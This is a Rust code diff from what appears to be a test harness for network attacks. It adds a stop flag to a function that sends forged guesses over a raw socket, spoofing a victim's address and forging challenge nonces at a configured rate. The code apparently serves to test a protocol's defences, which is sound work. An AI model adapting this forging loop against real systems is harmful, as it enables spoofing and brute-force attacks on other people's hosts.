@@ -6,6 +6,7 @@
 use std::{
     net::{SocketAddr, SocketAddrV4},
     os::fd::{AsRawFd, FromRawFd, OwnedFd},
+    sync::atomic::{AtomicBool, Ordering},
     time::{Duration, Instant},
 };
 
@@ -23,21 +24,22 @@ pub struct Plan {
     /// A nonce that the attacker has; otherwise one that nobody gave out.
     pub challenge: Option<Challenge>,
     pub per_second: u32,
-    pub duration: Duration,
+    pub limit: Duration,
 }
 
-/// Sends forged guesses from inside `namespace`; returns how many.
-pub fn forge_from(namespace: &Namespace, plan: &Plan) -> Result<u32> {
-    namespace.run(|| forge(plan))
+/// Sends forged guesses from inside `namespace` for as long as it is `wanted`, at most to the plan's
+/// limit; returns how many.
+pub fn forge_from(namespace: &Namespace, plan: &Plan, wanted: &AtomicBool) -> Result<u32> {
+    namespace.run(|| forge(plan, wanted))
 }
 
-fn forge(plan: &Plan) -> Result<u32> {
+fn forge(plan: &Plan, wanted: &AtomicBool) -> Result<u32> {
     let guesses = cracker::Plan::new((*plan.victim.ip()).into(), plan.target.into());
     let challenge = plan.challenge.clone().unwrap_or_else(|| Challenge::forged(&guesses));
     let socket = raw_socket()?;
     let start = Instant::now();
     let mut sent = 0;
-    while start.elapsed() < plan.duration {
+    while start.elapsed() < plan.limit && wanted.load(Ordering::Relaxed) {
         let local = SocketAddr::V4(plan.victim);
         let message = cracker::request(&guesses, local, Some((&challenge, sent)));
         send(&socket, plan, &message)?;
